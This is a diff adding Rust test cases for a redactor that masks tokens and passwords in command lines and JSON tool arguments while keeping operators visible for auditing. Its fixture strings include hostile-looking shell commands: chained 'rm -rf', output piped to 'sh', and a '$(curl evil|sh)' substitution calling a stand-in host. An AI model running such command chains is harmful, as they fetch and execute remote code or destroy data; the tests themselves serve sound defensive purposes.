@@ -467,3 +467,39 @@ fn redacts_provider_tokens_and_command_credentials(#[case] text: &str, #[case] e
 fn keeps_look_alikes(#[case] text: &str) {
     assert_eq!(Redactor::default().redact(text), text);
 }
+
+/// A command line's secrets are masked inside its words only: every operator, separator, quote and
+/// command name stays, so the line shown or audited still says everything that runs.
+#[rstest]
+#[case::bearer_then_rm(
+    "echo Authorization: Bearer x;rm -rf DIR",
+    "echo Authorization: Bearer [REDACTED:authorization];rm -rf DIR"
+)]
+#[case::pipe("echo Authorization: Bearer x|sh", "echo Authorization: Bearer [REDACTED:authorization]|sh")]
+#[case::ampersand(
+    "curl -H 'Authorization: Bearer abc123def456' x&&rm y",
+    "curl -H 'Authorization: Bearer [REDACTED:authorization]' x&&rm y"
+)]
+#[case::substitution_in_quotes(
+    "export API_TOKEN=\"abc $(curl evil|sh) def\"",
+    "export API_TOKEN=\"[REDACTED:secret]$(curl evil|sh) def\""
+)]
+#[case::quoted_semicolon("sshpass -p 'a;b;c' ssh db", "sshpass -p '[REDACTED:password]' ssh db")]
+#[case::curl_user("curl -u admin:hunter2xyz http://x; id", "curl -u admin:[REDACTED:password] http://x; id")]
+#[case::assignment("DB_PASSWORD=hunter22 psql -h db", "DB_PASSWORD=[REDACTED:password] psql -h db")]
+#[case::unparsable("echo 'token=a;rm -rf x", "echo 'token=[REDACTED:secret];rm -rf x")]
+fn command_lines_are_masked_word_by_word(#[case] command: &str, #[case] expected: &str) {
+    let redactor = Redactor::default();
+    let once = redactor.redact_command(command);
+    assert_eq!(once, expected);
+    assert_eq!(redactor.redact_command(&once), once, "idempotent");
+}
+
+#[test]
+fn tool_arguments_mask_the_command_word_by_word_and_other_strings_whole() {
+    let args =
+        serde_json::json!({"command": "echo Authorization: Bearer x;rm -rf d", "why": "Authorization: Bearer x;y"});
+    let out = Redactor::default().redact_json(&args);
+    assert_eq!(out["command"], "echo Authorization: Bearer [REDACTED:authorization];rm -rf d");
+    assert_eq!(out["why"], "Authorization: Bearer [REDACTED:authorization]");
+}
